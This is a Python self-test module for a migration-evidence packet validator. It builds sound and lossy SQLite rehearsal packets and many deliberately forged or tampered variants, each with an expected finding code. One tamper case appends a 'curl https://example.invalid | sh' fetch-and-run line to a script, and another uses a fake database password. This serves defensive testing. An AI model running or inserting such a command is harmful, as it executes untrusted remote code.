"""`rollproof validate --selftest`: good packets and named bad ones, made at run time.

The corpus comes from two tiny real rehearsals on a real SQLite file, with a fixed clock: a
sound change (every leg passes) and a lossy one (its revert loses a column's values, so the
packet is valid evidence of a FAIL). Each bad case changes one thing in a good packet; where
the point is the logic, the manifest and tree hash are recomputed afterwards (`reseal`), and for
signature cases the packet is signed again, so only the check under test can catch it. File-type
cases (symlink, hard link, FIFO) are built on disk and go through the IO shell.

The self-test passes only when every good packet validates and every bad one is rejected with
its expected finding code as the first finding (or, for the pin case, refused outright).

Longer than 600 lines because the corpus is data: one named case per finding code and one
per forgery of the attack corpus, each a few lines, read best side by side.
"""

from __future__ import annotations

import json
import os
import sqlite3
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from rollproof.core.canonical import canonical_json
from rollproof.core.change import load_change
from rollproof.core.fingerprint import Fingerprint, TableDigest, fingerprint_from_json
from rollproof.core.keys import SigningKey
from rollproof.core.model import Verdict
from rollproof.evidence.write import write_tree_atomically
from rollproof.rehearse.flow import RehearsalResult, rehearse
from rollproof.rehearse.packet import build_packet
from rollproof.rehearse.report import report_bytes
from rollproof.verify.attest import (
    Signer,
    TrustedKey,
    predicate_for,
    sign_envelope,
    statement_json,
    trusted_key,
)
from rollproof.verify.findings import FindingCode, ValidationReport, ValidatorPinError
from rollproof.verify.layout import (
    ATTESTATION,
    CHANGE_DIR,
    COMMANDS_SH,
    DECISION_MD,
    EXIT_CODES_JSON,
    GOVERNANCE_SEAL,
    ISOLATION_JSON,
    MANIFEST,
    REPORT_JSON,
    REPORT_MD,
    RERUN_SH,
    SURFACES_JSON,
    TREE_HASH,
    Limits,
    payload_of,
    seal,
    sha256_hex,
)
from rollproof.verify.range_packet import RANGE_FILE, range_document
from rollproof.verify.reader import check_packet
from rollproof.verify.recompute import recomputed_content_id, summary_text
from rollproof.verify.report_md import forbidden_line, render_report_md
from rollproof.verify.scripts import recorded_exit_code, render_commands, render_rerun
from rollproof.verify.validate import PacketTree, check_tree

FIXED_TIME = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)

TINY_SOURCE = """
CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT NOT NULL, qty INTEGER);
INSERT INTO items (name, qty) VALUES ('bolt', 10), ('nut', 20), ('washer', 30);
"""

SOUND_CHANGE = {
    "change.toml": (
        'id = "add-item-note"\napply = "apply.sql"\nrevert = "revert.sql"\n'
        'verify = "verify.sql"\n\n[surfaces]\nreads = []\nwrites = ["items"]\n'
    ),
    "apply.sql": (
        "ALTER TABLE items ADD COLUMN note TEXT;\nUPDATE items SET note = 'x' WHERE id = 1;\n"
    ),
    "revert.sql": "ALTER TABLE items DROP COLUMN note;\n",
    "verify.sql": "SELECT count(*) FROM items;\n",
}


def _range_change() -> dict[str, str]:
    """The range of SOUND (1) and LOSSY (2): every up in order, every down in reverse order,
    as rehearse-dir writes a range's own change (formats.changes.range_change)."""
    ups = [SOUND_CHANGE["apply.sql"], LOSSY_CHANGE["apply.sql"]]
    downs = [LOSSY_CHANGE["revert.sql"], SOUND_CHANGE["revert.sql"]]
    apply = "\n".join(t.rstrip() + "\n" for t in ups)
    revert = "\n".join(t.rstrip() + "\n" for t in downs)
    return {
        "change.toml": (
            f'# migrations: 1 2\nid = "range-1-to-2"\napply_sql = {json.dumps(apply)}\n'
            f'revert_sql = {json.dumps(revert)}\n\n[surfaces]\nreads = []\nwrites = ["items"]\n'
        )
    }


LOSSY_CHANGE = {
    "change.toml": (
        'id = "drop-item-qty"\napply = "apply.sql"\nrevert = "revert.sql"\n\n'
        '[surfaces]\nreads = []\nwrites = ["items"]\n'
    ),
    "apply.sql": "ALTER TABLE items DROP COLUMN qty;\n",
    "revert.sql": "ALTER TABLE items ADD COLUMN qty INTEGER;\n",
}


def build_tiny_source(path: Path) -> Path:
    """A three-row SQLite database at `path` (which must not exist)."""
    conn = sqlite3.connect(path)
    try:
        conn.executescript(TINY_SOURCE)
        conn.commit()
    finally:
        conn.close()
    return path


def write_change(directory: Path, files: Mapping[str, str]) -> Path:
    directory.mkdir(parents=True)
    for name, text in files.items():
        (directory / name).write_text(text, encoding="utf-8")
    return directory


def fixed_clock() -> datetime:
    return FIXED_TIME


def tiny_rehearsal(source: Path, change_dir: Path) -> RehearsalResult:
    return rehearse(load_change(change_dir), f"sqlite:///{source}", clock=fixed_clock)


# -- editing packets -------------------------------------------------------------------------

Files = dict[str, bytes]


def reseal(files: Mapping[str, bytes], *, keep_attestation: bool = False) -> Files:
    """Recompute MANIFEST.json and TREE_HASH over the payload (dropping any attestation unless
    asked to keep it): the packet then passes every file-level check."""
    out = seal(payload_of(files))
    if keep_attestation and ATTESTATION in files:
        out[ATTESTATION] = files[ATTESTATION]
    return out


def sign(files: Mapping[str, bytes], key: Signer, **predicate: Any) -> Files:
    """Reseal and sign again with `key`; keyword arguments are added to the predicate."""
    out = reseal(files)
    report = json.loads(out[REPORT_JSON])
    exit_code = recorded_exit_code(json.loads(out[EXIT_CODES_JSON]))
    statement = statement_json(
        sha256_hex(out[MANIFEST]),
        out[TREE_HASH].decode("ascii").strip(),
        {**predicate_for(report, exit_code), **predicate},
    )
    out[ATTESTATION] = sign_envelope(statement, key)
    return out


def edit_report(files: Mapping[str, bytes], change: Callable[[dict[str, Any]], None]) -> Files:
    """Apply `change` to report.json's content, rewrite it as rollproof does (isolation.json
    and surfaces.json too, so they agree with it), reseal."""
    report = json.loads(files[REPORT_JSON])
    change(report)
    return reseal(
        {
            **files,
            REPORT_JSON: report_bytes(report),
            ISOLATION_JSON: canonical_json(report.get("isolation")),
            SURFACES_JSON: canonical_json(report.get("surfaces")),
        }
    )


def edit_canonical(files: Mapping[str, bytes], path: str, change: Callable[[Any], None]) -> Files:
    """Apply `change` to a canonical JSON file's content, rewrite it canonically, reseal."""
    doc = json.loads(files[path])
    change(doc)
    return reseal({**files, path: canonical_json(doc)})


def forge(
    files: Mapping[str, bytes],
    report_edit: Callable[[dict[str, Any]], None] | None = None,
    exit_codes_edit: Callable[[dict[str, Any]], None] | None = None,
    *,
    drop: Callable[[str], bool] = lambda path: False,
) -> Files:
    """A forgery as an attacker without the key makes one: edit report.json and
    exit_codes.json, drop files, re-render every derived file with rollproof's public
    renderers (isolation.json, surfaces.json, report.md, commands.sh, RERUN.sh), rehash the
    manifest and tree hash. Only a logic check can catch what is left."""
    report = json.loads(files[REPORT_JSON])
    exit_codes = json.loads(files[EXIT_CODES_JSON])
    if report_edit is not None:
        report_edit(report)
    if exit_codes_edit is not None:
        exit_codes_edit(exit_codes)
    kept = {p: d for p, d in files.items() if not drop(p)}
    return reseal(
        {
            **kept,
            REPORT_JSON: report_bytes(report),
            EXIT_CODES_JSON: canonical_json(exit_codes),
            ISOLATION_JSON: canonical_json(report["isolation"]),
            SURFACES_JSON: canonical_json(report["surfaces"]),
            REPORT_MD: render_report_md(report),
            COMMANDS_SH: render_commands(report, exit_codes),
            RERUN_SH: render_rerun(report),
        }
    )


def restate(report: dict[str, Any]) -> None:
    """Make the summary and the forbidden-surfaces line say what the (edited) report's
    verdicts say, as a careful forger would."""
    report["summary"] = summary_text(
        report["change"]["id"],
        report["overall"],
        [(x["name"], x["verdict"]) for x in report["legs"]],
        report["isolation"]["verdict"],
    )
    report["surfaces"]["forbidden_summary"] = forbidden_line(report["surfaces"]["forbidden"])


def flip_byte(data: bytes, index: int) -> bytes:
    return data[:index] + bytes([data[index] ^ 0x01]) + data[index + 1 :]


def leg(report: dict[str, Any], name: str) -> dict[str, Any]:
    return next(x for x in report["legs"] if x["name"] == name)


def governance_layer(
    files: Mapping[str, bytes],
    *,
    edit_decision: Callable[[dict[str, Any]], None] | None = None,
    probes: Mapping[str, Any] | None = None,
) -> Files:
    """`files` plus a governance layer as a governed run writes it, derived from an empty
    ledger and the default ladder (decision: HOLD first and default; APPLY_NOW=NO)."""
    from rollproof.core.policy import DEFAULT_GATES, DEFAULT_LANES, Governance
    from rollproof.governance.decision import decision_packet
    from rollproof.governance.state import fold
    from rollproof.verify.governance_layer import ADDENDUM_SCHEMA, checkpoint_title, layer_files

    tree = files[TREE_HASH].decode("ascii").strip()
    report = json.loads(files[REPORT_JSON])
    change_id = report["change"]["id"]
    gov = Governance("", Path(), None, {}, DEFAULT_LANES, DEFAULT_GATES)
    state = fold(())
    lane = DEFAULT_LANES[0].name
    decision = decision_packet(
        gov,
        state,
        change_id=change_id,
        lane=lane,
        packet_tree_hash=tree,
        overall=Verdict(report["overall"]),
        now=FIXED_TIME,
    )
    if edit_decision is not None:
        edit_decision(decision)
    addendum = {
        "schema": ADDENDUM_SCHEMA,
        "change_id": change_id,
        "lane": lane,
        "packet_tree_hash": tree,
        "ledger": {"from": 1, "through": 1, "head": "0" * 64},
        "grant_id": None,
        "tickets": {"range": None, "ids": []},
        "discharged": [],
        "apply_now": "NO",
    }
    checkpoint = checkpoint_title(change_id, "2026-01-02") + "\n\n(self-test)\n"
    return {**files, **layer_files(decision, addendum, checkpoint, tree, probes or sample_probes())}


def sample_probes(*, failed: str | None = None) -> dict[str, Any]:
    """A probes.json as `rollproof probe --json` writes it: two probes and the control, all
    as expected, or with probe `failed` not failing closed (exit 0 observed)."""
    from rollproof.verify.governance_layer import probes_document

    def probe(name: str, code: int, contains: str) -> dict[str, Any]:
        observed = 0 if name == failed else code
        return {
            "name": name,
            "what": f"self-test probe {name}",
            "expected": {"exit": code, "contains": contains},
            "observed": {"exit": observed, "contains": True},
            "passed": observed == code,
            "leaked": False,
        }

    control = {**probe("control", 0, "PASS"), "allowed": True}
    return probes_document(
        [probe("grant-forged", 3, "grant"), probe("fifo-script", 2, "is a FIFO")], control
    )


def _reseal_layer(c: Corpus, path: str, data: bytes) -> Files:
    """The governed packet with one layer file replaced and the layer sealed again."""
    from rollproof.verify.governance_layer import seal_json

    layer = {p: d for p, d in c.governed.items() if p.startswith("governance/")}
    layer[path] = data
    tree = c.governed[TREE_HASH].decode("ascii").strip()
    return {**c.governed, **layer, GOVERNANCE_SEAL: seal_json(layer, tree)}


def _seal_other_tree(c: Corpus) -> Files:
    doc = json.loads(c.governed[GOVERNANCE_SEAL])
    doc["tree_hash"] = "0" * 64
    return {**c.governed, GOVERNANCE_SEAL: canonical_json(doc)}


def _decision_defaults_to_proceed(c: Corpus) -> Files:
    def edit(decision: dict[str, Any]) -> None:
        decision["default"] = "PROCEED"

    return governance_layer(c.sound, edit_decision=edit)


def _decision_other_change(c: Corpus) -> Files:
    def edit(decision: dict[str, Any]) -> None:
        decision["change_id"] = "another-change"

    return governance_layer(c.sound, edit_decision=edit)


# -- the corpus ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Corpus:
    sound: Files
    lossy: Files
    signed: Files
    governed: Files
    key: SigningKey
    trusted: TrustedKey
    stranger: TrustedKey
    workdir: Path
    results: Mapping[str, RehearsalResult] = field(repr=False)
    whole: Files = field(default_factory=dict, repr=False)
    """The range packet of sound (1) and lossy (2): the range's own round trip."""


def build_corpus(workdir: Path) -> Corpus:
    """Run the two tiny rehearsals under `workdir` and build the good packets."""
    workdir.mkdir(parents=True, exist_ok=True)
    source = build_tiny_source(workdir / "source.db")
    sound = tiny_rehearsal(
        source, write_change(workdir / "changes" / "add-item-note", SOUND_CHANGE)
    )
    lossy = tiny_rehearsal(
        source, write_change(workdir / "changes" / "drop-item-qty", LOSSY_CHANGE)
    )
    whole = tiny_rehearsal(source, write_change(workdir / "changes" / "range", _range_change()))
    key = SigningKey.from_private(Ed25519PrivateKey.generate())
    return Corpus(
        sound=build_packet(sound),
        lossy=build_packet(lossy),
        signed=build_packet(sound, signing_key=key),
        governed=governance_layer(build_packet(sound)),
        key=key,
        trusted=TrustedKey(key.public.raw),
        stranger=trusted_key(Ed25519PrivateKey.generate().public_key()),
        workdir=workdir,
        results={"sound": sound, "lossy": lossy, "range": whole},
        whole=build_packet(whole),
    )


@dataclass(frozen=True, slots=True)
class Case:
    """One corpus entry. `expected` None means the packet must validate. `build` returns the
    packet's files (in memory); `on_disk` instead mutates a written copy of the sound packet."""

    name: str
    expected: FindingCode | None
    build: Callable[[Corpus], Mapping[str, bytes]] | None = None
    on_disk: Callable[[Path, Path], None] | None = None
    signed: bool = False  # validate with the corpus key trusted and a signature required
    stranger: bool = False  # ...but trusting another key
    limits: Limits | None = None


def _manifest_entry_outside(c: Corpus) -> Files:
    sealed = seal({**payload_of(c.sound), "../outside.txt": b"outside\n"})
    del sealed["../outside.txt"]  # a manifest naming a file outside the packet
    return sealed


def _duplicate_manifest_key(c: Corpus) -> Files:
    return {**c.sound, MANIFEST: b'{"schema":"x",' + c.sound[MANIFEST][1:]}


def _report_text(c: Corpus, old: bytes, new: bytes) -> Files:
    body = c.sound[REPORT_JSON]
    assert old in body
    return reseal({**c.sound, REPORT_JSON: body.replace(old, new, 1)})


def _size_off_by_one(c: Corpus) -> Files:
    doc = json.loads(c.sound[MANIFEST])
    doc["files"][0]["size"] += 1
    return {**c.sound, MANIFEST: canonical_json(doc)}


def _forged_fingerprint(c: Corpus) -> Files:
    path = next(p for p in c.sound if p.startswith("fingerprints/"))
    doc = json.loads(c.sound[path])
    table = next(iter(doc["tables"]))
    doc["tables"][table]["digest"] = "blake3:" + "0" * 64  # digest field left as it was
    return reseal({**c.sound, path: canonical_json(doc)})


def _unreferenced_fingerprint(c: Corpus) -> Files:
    fp = c.results["sound"].source_fingerprint
    tables = dict(fp.tables)
    name = next(iter(tables))
    tables[name] = TableDigest(name, "blake3:" + "1" * 64, tables[name].rows, tables[name].order)
    other = Fingerprint(
        fp.engine,
        fp.schema_structural,
        fp.schema_ddl_text,
        fp.schema_objects,
        tables,
        fp.sequences,
        fp.excluded,
    )
    rel = f"fingerprints/{other.digest.removeprefix('sha256:')}.json"
    return reseal({**c.sound, rel: canonical_json(other.to_json())})


def _missing_fingerprint(c: Corpus) -> Files:
    report = json.loads(c.sound[REPORT_JSON])
    digest = leg(report, "transaction")["fingerprints"]["after_apply"].removeprefix("sha256:")
    return reseal({p: d for p, d in c.sound.items() if p != f"fingerprints/{digest}.json"})


def _fabricated_no_mutation(report: dict[str, Any]) -> None:
    t = leg(report, "transaction")
    t["fingerprints"]["after_apply"] = t["fingerprints"]["before"]


def _pass_over_difference(report: dict[str, Any]) -> None:
    r = leg(report, "revert")
    r.update(verdict="PASS", reason=None, differences=[])
    for inv in r["invariants"]:
        inv["holds"] = True


def _failed_isolation_check(c: Corpus) -> Files:
    def change(report: dict[str, Any]) -> None:
        report["isolation"]["checks"][0]["holds"] = False

    return edit_report(c.sound, change)


def _disk_symlink(packet: Path, outside: Path) -> None:
    copy = outside / "report.md"
    copy.write_bytes((packet / REPORT_MD).read_bytes())
    (packet / REPORT_MD).unlink()
    (packet / REPORT_MD).symlink_to(copy)


def _disk_hardlink(packet: Path, outside: Path) -> None:
    os.link(packet / REPORT_MD, outside / "second-name.md")


def _disk_fifo(packet: Path, outside: Path) -> None:
    (packet / REPORT_MD).unlink()
    os.mkfifo(packet / REPORT_MD)


def _wrong_signature(c: Corpus) -> Files:
    env = json.loads(c.signed[ATTESTATION])
    import base64

    sig = bytearray(base64.b64decode(env["signatures"][0]["sig"]))
    sig[0] ^= 0x01
    env["signatures"][0]["sig"] = base64.b64encode(bytes(sig)).decode("ascii")
    return {**c.signed, ATTESTATION: canonical_json(env)}


CASES: tuple[Case, ...] = (
    Case("good-sound", None, lambda c: c.sound),
    Case("good-lossy-fail-verdict", None, lambda c: c.lossy),
    Case("good-signed", None, lambda c: c.signed, signed=True),
    Case("limit-file-count", FindingCode.LIMIT_EXCEEDED, lambda c: c.sound, limits=Limits(5)),
    Case(
        "manifest-missing",
        FindingCode.MANIFEST_MISSING,
        lambda c: {p: d for p, d in c.sound.items() if p != MANIFEST},
    ),
    Case("manifest-duplicate-key", FindingCode.MANIFEST_MALFORMED, _duplicate_manifest_key),
    Case("path-dotdot", FindingCode.PATH_UNSAFE, _manifest_entry_outside),
    Case(
        "path-case-collision",
        FindingCode.PATH_CASE_COLLISION,
        lambda c: reseal({**c.sound, "Report.json": c.sound[REPORT_JSON]}),
    ),
    Case(
        "file-missing",
        FindingCode.FILE_MISSING,
        lambda c: {p: d for p, d in c.sound.items() if p != REPORT_MD},
    ),
    Case("file-extra", FindingCode.FILE_EXTRA, lambda c: {**c.sound, "notes.txt": b"hi\n"}),
    Case(
        "file-renamed",
        FindingCode.FILE_RENAMED,
        lambda c: {
            **{p: d for p, d in c.sound.items() if p != REPORT_MD},
            "report.markdown": c.sound[REPORT_MD],
        },
    ),
    Case(
        "file-unknown-resealed",
        FindingCode.FILE_UNKNOWN,
        lambda c: reseal({**c.sound, "notes.txt": b"hi\n"}),
    ),
    Case("symlink", FindingCode.SYMLINK, on_disk=_disk_symlink),
    Case("hardlink", FindingCode.HARDLINK, on_disk=_disk_hardlink),
    Case("fifo", FindingCode.SPECIAL_FILE, on_disk=_disk_fifo),
    Case("size-mismatch", FindingCode.SIZE_MISMATCH, _size_off_by_one),
    Case(
        "byte-flipped",
        FindingCode.SHA256_MISMATCH,
        lambda c: {**c.sound, REPORT_MD: flip_byte(c.sound[REPORT_MD], 3)},
    ),
    Case(
        "tree-hash-wrong",
        FindingCode.TREE_HASH_MISMATCH,
        lambda c: {**c.sound, TREE_HASH: (sha256_hex(b"another tree") + "\n").encode("ascii")},
    ),
    Case(
        "json-duplicate-key",
        FindingCode.JSON_INVALID,
        lambda c: _report_text(c, b'{\n  "change"', b'{\n  "overall": "PASS",\n  "change"'),
    ),
    Case(
        "json-nan",
        FindingCode.JSON_INVALID,
        lambda c: _report_text(c, b'"no_mutation": false', b'"no_mutation": NaN'),
    ),
    Case(
        "json-lone-surrogate",
        FindingCode.JSON_INVALID,
        lambda c: _report_text(c, b'"summary": "', b'"summary": "\\ud800'),
    ),
    Case(
        "json-trailing-data",
        FindingCode.JSON_INVALID,
        lambda c: reseal({**c.sound, REPORT_JSON: c.sound[REPORT_JSON] + b"{}\n"}),
    ),
    Case(
        "json-not-canonical",
        FindingCode.JSON_NOT_CANONICAL,
        lambda c: reseal(
            {
                **c.sound,
                ISOLATION_JSON: json.dumps(json.loads(c.sound[ISOLATION_JSON]), indent=1).encode(),
            }
        ),
    ),
    Case(
        "report-unknown-field",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: edit_report(c.sound, lambda r: r.update(verified_by="me")),
    ),
    Case(
        "report-version-unknown",
        FindingCode.REPORT_VERSION_UNKNOWN,
        lambda c: edit_report(c.sound, lambda r: r.update(schema="rollproof/report/v2")),
    ),
    Case(
        "isolation-json-differs",
        FindingCode.DETAIL_FILE_MISMATCH,
        lambda c: edit_canonical(
            c.sound, ISOLATION_JSON, lambda d: d["checks"][0].update(evidence="trust me")
        ),
    ),
    Case("fingerprint-forged", FindingCode.FINGERPRINT_INVALID, _forged_fingerprint),
    Case(
        "secret-in-dsn",
        FindingCode.SECRET_PRESENT,
        lambda c: edit_report(
            c.sound, lambda r: r["source"].update(dsn="postgresql://app:hunter2@db/prod")
        ),
    ),
    Case(
        "content-id-forged",
        FindingCode.CONTENT_ID_MISMATCH,
        lambda c: edit_report(c.sound, lambda r: r["change"].update(no_mutation=True)),
    ),
    Case(
        "change-copy-altered",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: reseal({**c.sound, "change/revert.sql": b"SELECT 1;\n"}),
    ),
    Case(
        "fingerprint-unreferenced", FindingCode.FINGERPRINT_UNREFERENCED, _unreferenced_fingerprint
    ),
    Case("fingerprint-missing", FindingCode.FINGERPRINT_MISSING, _missing_fingerprint),
    Case(
        "legs-out-of-order",
        FindingCode.LEGS_MALFORMED,
        lambda c: edit_report(c.sound, lambda r: r["legs"].reverse()),
    ),
    Case(
        "fabricated-no-mutation",
        FindingCode.NO_MUTATION_FABRICATED,
        lambda c: edit_report(c.sound, _fabricated_no_mutation),
    ),
    Case(
        "pass-over-differing-fingerprints",
        FindingCode.LEG_VERDICT_CONTRADICTS,
        lambda c: edit_report(c.lossy, _pass_over_difference),
    ),
    Case(
        "pass-without-every-point",
        FindingCode.LEG_POINTS_INCOMPLETE,
        lambda c: edit_report(
            c.sound, lambda r: leg(r, "revert")["fingerprints"].pop("after_revert")
        ),
    ),
    Case(
        "before-not-source",
        FindingCode.LEG_BEFORE_NOT_SOURCE,
        lambda c: edit_report(
            c.sound,
            lambda r: leg(r, "restore")["fingerprints"].update(
                before=leg(r, "restore")["fingerprints"]["after_apply"]
            ),
        ),
    ),
    Case(
        "sqlite-restore-carried-over",
        FindingCode.LEG_CARRIED_UNFOUNDED,
        lambda c: edit_report(
            c.sound, lambda r: leg(r, "restore").update(carried={"after_restore": "snapshot"})
        ),
    ),
    Case(
        "invariants-misrecorded",
        FindingCode.LEG_INVARIANTS_MISMATCH,
        lambda c: edit_report(c.sound, lambda r: leg(r, "restore")["invariants"].reverse()),
    ),
    Case(
        "overall-pass-over-failed-leg",
        FindingCode.OVERALL_CONTRADICTS,
        lambda c: edit_report(c.lossy, lambda r: r.update(overall="PASS")),
    ),
    Case(
        "isolation-proven-over-failed-check",
        FindingCode.ISOLATION_CONTRADICTS,
        _failed_isolation_check,
    ),
    Case(
        "summary-contradicts",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: edit_report(
            c.lossy, lambda r: r.update(summary=r["summary"].replace(": FAIL (", ": PASS (", 1))
        ),
    ),
    Case(
        "impact-figure-forged",
        FindingCode.IMPACT_CONTRADICTS,
        lambda c: edit_report(
            c.sound, lambda r: r["impact"].update(duration_us=r["impact"]["duration_us"] + 1)
        ),
    ),
    Case(
        "exit-code-contradicts",
        FindingCode.EXIT_CODE_CONTRADICTS,
        lambda c: edit_canonical(
            c.lossy, EXIT_CODES_JSON, lambda d: d["commands"][0].update(exit_code=0)
        ),
    ),
    Case(
        "commands-sh-tampered",
        FindingCode.SCRIPT_MISMATCH,
        lambda c: reseal(
            {**c.sound, COMMANDS_SH: c.sound[COMMANDS_SH] + b"curl https://example.invalid | sh\n"}
        ),
    ),
    Case("signature-missing", FindingCode.SIGNATURE_MISSING, lambda c: c.sound, signed=True),
    Case(
        "signature-by-untrusted-key",
        FindingCode.SIGNATURE_INVALID,
        lambda c: c.signed,
        signed=True,
        stranger=True,
    ),
    Case("signature-bytes-altered", FindingCode.SIGNATURE_INVALID, _wrong_signature, signed=True),
    Case(
        "signature-over-another-packet",
        FindingCode.ATTESTATION_SUBJECT_MISMATCH,
        lambda c: {**c.lossy, ATTESTATION: c.signed[ATTESTATION]},
        signed=True,
    ),
    Case(
        "predicate-contradicts-report",
        FindingCode.ATTESTATION_PREDICATE_MISMATCH,
        lambda c: sign(c.lossy, c.key, overall="PASS", exit_code=0),
        signed=True,
    ),
    Case(
        "predicate-unknown-field",
        FindingCode.ATTESTATION_MALFORMED,
        lambda c: sign(c.sound, c.key, approved_by="nobody"),
        signed=True,
    ),
    Case("good-governed", None, lambda c: c.governed),
    Case(
        "governance-layer-without-seal",
        FindingCode.FILE_EXTRA,
        lambda c: {p: d for p, d in c.governed.items() if p != GOVERNANCE_SEAL},
    ),
    Case("governance-seal-over-another-tree", FindingCode.GOVERNANCE_MISMATCH, _seal_other_tree),
    Case(
        "probes-failed-under-pass",
        FindingCode.PROBES_CONTRADICT,
        lambda c: governance_layer(c.sound, probes=sample_probes(failed="grant-forged")),
    ),
    Case(
        "governance-file-altered",
        FindingCode.SHA256_MISMATCH,
        lambda c: {**c.governed, DECISION_MD: flip_byte(c.governed[DECISION_MD], 3)},
    ),
    Case(
        "governance-decision-defaults-to-proceed",
        FindingCode.SCHEMA_VIOLATION,
        _decision_defaults_to_proceed,
    ),
    Case(
        "governance-decision-md-not-rendered",
        FindingCode.GOVERNANCE_MISMATCH,
        lambda c: _reseal_layer(c, DECISION_MD, c.governed[DECISION_MD] + b"\nPROCEED now\n"),
    ),
    Case(
        "governance-decision-other-change", FindingCode.GOVERNANCE_MISMATCH, _decision_other_change
    ),
    # range packets (rehearse-dir --out): the sound and the lossy packet as migrations 1 and 2
    Case("good-range", None, lambda c: _range(c)),
    Case("range-not-canonical", FindingCode.RANGE_MALFORMED, lambda c: _range(c, canonical=False)),
    Case(
        "range-unlisted-directory",
        FindingCode.RANGE_PACKET_EXTRA,
        lambda c: {**_range(c), "9-extra/notes.txt": b"hi\n"},
    ),
    Case(
        "range-listed-directory-removed",
        FindingCode.RANGE_PACKET_MISSING,
        lambda c: {p: d for p, d in _range(c).items() if not p.startswith("2-")},
    ),
    Case("range-reordered", FindingCode.RANGE_ORDER, lambda c: _range(c, order=(1, 0))),
    Case(
        "range-sub-packet-altered",
        FindingCode.RANGE_PACKET_INVALID,
        lambda c: _range(c, edit=lambda files: {**files, REPORT_MD: files[REPORT_MD] + b"x"}),
    ),
    Case(
        "range-sub-packets-swapped",
        FindingCode.RANGE_PACKET_MISMATCH,
        lambda c: _range(c, swap=True),
    ),
    Case(
        "range-verdict-edited",
        FindingCode.RANGE_VERDICT_CONTRADICTS,
        lambda c: _range(c, overall="PASS"),
    ),
    Case(
        "range-without-its-range-packet",
        FindingCode.RANGE_PACKET_MISSING,
        lambda c: _range(c, whole=False),
    ),
    Case(
        "range-migrations-line-edited",
        FindingCode.RANGE_PACKET_MISSING,
        lambda c: _range(c, edit_whole=_migrations_line(b"# migrations: 1\n")),
    ),
    Case(
        "range-sub-packet-from-another-range",
        FindingCode.RANGE_PACKET_MISMATCH,
        lambda c: _range(c, first=_other_apply(c.sound)),
    ),
    Case(
        "range-dir-with-newline",
        FindingCode.RANGE_MALFORMED,
        lambda c: _range(c, dir_suffix="\n"),
    ),
)


def _fingerprint_table_edit(
    c: Corpus, *, rows: int | None = None, order: str | None = None, recompute: bool = False
) -> Files:
    """The source fingerprint's table with its row count or order edited: its digest left as
    it was, or (`recompute`) a second fingerprint file with the digest recomputed, so the
    same table digest stands for two counts."""
    report = json.loads(c.sound[REPORT_JSON])
    digest = report["source"]["fingerprint"].removeprefix("sha256:")
    path = f"fingerprints/{digest}.json"
    doc = json.loads(c.sound[path])
    table = next(iter(doc["tables"]))
    if rows is not None:
        doc["tables"][table]["rows"] = rows
    if order is not None:
        doc["tables"][table]["order"] = order
    if not recompute:
        return reseal({**c.sound, path: canonical_json(doc)})
    doc["digest"] = ""
    fp = fingerprint_from_json(doc)
    other = f"fingerprints/{fp.digest.removeprefix('sha256:')}.json"
    return reseal({**c.sound, other: canonical_json(fp.to_json())})


def _selected(
    c: Corpus, name: str, line: str, lines: list[int] | None, *, strip: bool = False
) -> Files:
    """The sound packet with `name`'s change.toml line replaced by a selection, the report
    saying `lines` and `strip` (content id recomputed): what the loader would have refused."""
    text = c.sound[f"{CHANGE_DIR}/change.toml"].decode()
    toml = "\n".join(
        line if old.startswith(f"{name} = ") else old for old in text.split("\n")
    ).encode()

    def edit(report: dict[str, Any]) -> None:
        change = report["change"]
        doc = change["scripts"][name]
        doc.pop("lines", None)
        doc.pop("strip_transaction", None)
        if lines is not None:
            doc["lines"] = lines
        if strip:
            doc["strip_transaction"] = True
        change["content_id"] = recomputed_content_id(change, report["impact"]["limits"]["change"])

    return forge({**c.sound, f"{CHANGE_DIR}/change.toml": toml}, edit)


def _migrations_line(line: bytes) -> Callable[[Files], Files]:
    """The range packet with its change.toml's `# migrations:` line replaced, resealed."""

    def edit(files: Files) -> Files:
        path = f"{CHANGE_DIR}/change.toml"
        body = b"".join(
            line if old.startswith(b"# migrations: ") else old
            for old in files[path].splitlines(keepends=True)
        )
        return reseal({**files, path: body})

    return edit


def _other_apply(files: Mapping[str, bytes]) -> Files:
    """The packet of the same change id with another apply script, re-stated consistently (the
    sha256 and content id recomputed): valid on its own, not the range's migration 1."""
    text = b"ALTER TABLE items ADD COLUMN note TEXT;\n"
    path = f"{CHANGE_DIR}/apply.sql"

    def edit(report: dict[str, Any]) -> None:
        change = report["change"]
        change["scripts"]["apply"]["sha256"] = sha256_hex(text)
        change["content_id"] = recomputed_content_id(change, report["impact"]["limits"]["change"])

    return forge({**files, path: text}, edit)


def _range(
    c: Corpus,
    *,
    canonical: bool = True,
    order: tuple[int, int] = (0, 1),
    edit: Callable[[Files], Files] | None = None,
    edit_whole: Callable[[Files], Files] | None = None,
    swap: bool = False,
    overall: str | None = None,
    whole: bool = True,
    first: Files | None = None,
    dir_suffix: str = "",
) -> Files:
    """A range packet of the sound (1) and the lossy (2) packet and the range's own packet,
    RANGE.json over them. `first` replaces migration 1's packet (listed as it is)."""
    parts = [("1-add-item-note", first or c.sound), ("2-drop-item-qty" + dir_suffix, c.lossy)]
    if whole:
        parts.append(("range-1-to-2", c.whole if edit_whole is None else edit_whole(c.whole)))
    entries = []
    for name, files in parts:
        verified = check_tree(PacketTree.from_files(files)).verified()
        entries.append(
            {
                "dir": name,
                "migration": None if name.startswith("range-") else name.split("-", 1)[0],
                "tree_hash": verified.tree_hash,
                "overall": str(verified.overall),
                "exit_code": verified.exit_code,
            }
        )
    doc = json.loads(range_document([entries[i] for i in order] + entries[2:], "selftest"))
    if overall is not None:
        doc["overall"] = overall
    out: dict[str, bytes] = {
        RANGE_FILE: canonical_json(doc) if canonical else json.dumps(doc).encode()
    }
    bodies = [files for _name, files in parts]
    if swap:
        bodies[0], bodies[1] = bodies[1], bodies[0]
    for (name, _files), body in zip(parts, bodies, strict=True):
        if edit is not None and name.startswith("1-"):
            body = edit(body)
        out |= {f"{name}/{p}": d for p, d in body.items()}
    return out


# -- the attack corpus -----------------------------------------------------------------------
# Forgeries made the way an attacker without the signing key makes them (`forge`: edit,
# re-render with the public renderers, rehash), each with the finding the validator must give.


